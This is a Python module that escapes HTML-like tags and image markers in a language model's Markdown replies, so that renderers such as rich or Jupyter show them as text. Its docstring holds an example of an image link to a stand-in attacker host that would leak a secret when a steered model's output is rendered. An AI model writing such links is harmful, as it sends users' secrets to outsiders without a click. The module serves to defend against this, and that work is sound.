"""A model's Markdown with its HTML-like tags shown as written, never swallowed by a renderer.

A CommonMark renderer treats ``<data>`` as raw HTML: rich's ``Markdown`` (markdown-it) drops HTML blocks and
inline tags, so a reply that starts with ``<data>`` showed nothing up to its next blank line, and a notebook's
Markdown cell (or a saved ``.md`` read in a viewer) hides it too — an unclosed ``<data>`` there swallowed the
questions that followed. Small models copy such tags from the prompt's data spans, and every reply may carry
``<redacted …>`` marks. ``literal_tags`` puts a backslash before every ``<`` that would open a tag, a comment
or a declaration (``\\<`` is CommonMark's escape for a literal ``<``), everywhere but in code: fenced and
indented code blocks and code spans show backslashes as written, so they are left as they are, and so are
autolinks (``<https://…>``). Text that had nothing to hide comes back as it was.

An image (``![alt](https://…)``, or ``![alt][ref]``) loses its ``!`` the same way (``\\!``): a notebook, or a
saved ``.md`` opened in a viewer, would fetch its address as soon as it is shown — a steered model writing
``![](https://attacker/?d=SECRET)`` would send the secret without a click. It stays a link, for the person
to follow or not.

Every front end that renders Markdown calls this one function on the model's text before rendering it: the
REPL's and terminal IPython's rich renderer, Jupyter's display, and the saved notebook, script and transcript.
Piped output is plain text and needs none of it. The block structure comes from markdown-it, the parser rich
renders with (already loaded with rich; imported here only when a text has a ``<`` to look at).
"""

from __future__ import annotations

import re

__all__ = ["literal_tags"]

# A "<" that opens something a CommonMark renderer reads as HTML: a tag, a closing tag, a comment, a
# processing instruction or a declaration; and the "!" that makes a link an image.
_OPENS = re.compile(r"<(?=[A-Za-z/!?])|!(?=\[)")
# ``<scheme:…>`` and ``<name@host>`` are links, shown with their text: not hidden, left as they are.
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*)>"
)
_BACKTICKS = re.compile(r"`+")


def literal_tags(text: str) -> str:
    """``text`` (Markdown) with every ``<`` outside code that would start HTML escaped as ``\\<``, and the
    ``!`` of every image as ``\\!``."""
    if ("<" not in text and "![" not in text) or not _OPENS.search(text):
        return text
    lines = text.split("\n")
    code = _code_lines(text)
    out: list[str] = []
    run: list[str] = []  # one paragraph's lines outside code: a code span may go on from one to the next
    for number, line in enumerate(lines):
        if number in code or not line.strip():
            if run:
                out.append(_escape_run("\n".join(run)))
                run = []
            out.append(line)
        else:
            run.append(line)
    if run:
        out.append(_escape_run("\n".join(run)))
    return "\n".join(out)


def _code_lines(text: str) -> set[int]:
    """The numbers of the lines inside code blocks (fences, with their fence lines, and indented code), as
    markdown-it finds them once no tag is HTML any more (with HTML on, a tag's block would hide a fence)."""
    from markdown_it import MarkdownIt  # with the first reply that holds a "<": rich's own parser

    parser = MarkdownIt("commonmark", {"html": False})
    lines: set[int] = set()
    for token in parser.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(token.map[0], token.map[1]))
    return lines


def _escape_run(text: str) -> str:
    """Escape the tag openers of ``text`` that lie outside its code spans."""
    pieces: list[str] = []
    done = 0  # text[:done] is in pieces already
    at = 0
    while True:
        tick = _BACKTICKS.search(text, at)
        if tick is None:
            break
        if _escaped(text, tick.start()):  # ``\``` is a literal backtick, then maybe an opener of fewer
            at = tick.start() + 1
            continue
        size = len(tick.group())
        close = _closing_run(text, tick.end(), size)
        if close is None:  # no run of the same length later: the backticks are text
            at = tick.end()
            continue
        pieces.append(_escape_text(text[done : tick.start()]))
        pieces.append(text[tick.start() : close])
        done = at = close
    pieces.append(_escape_text(text[done:]))
    return "".join(pieces)


def _closing_run(text: str, start: int, size: int) -> int | None:
    """The end of the next run of exactly ``size`` backticks after ``start``, which closes a code span."""
    for found in _BACKTICKS.finditer(text, start):
        if len(found.group()) == size:
            return found.end()
    return None


def _escape_text(text: str) -> str:
    def escape(m: re.Match[str]) -> str:
        at = m.start()
        if _escaped(text, at) or _AUTOLINK.match(text, at):
            return m.group()
        return "\\" + m.group()

    return _OPENS.sub(escape, text)


def _escaped(text: str, at: int) -> bool:
    """True when the character at ``at`` follows an odd number of backslashes (it is escaped already)."""
    count = 0
    while at - count - 1 >= 0 and text[at - count - 1] == "\\":
        count += 1
    return count % 2 == 1
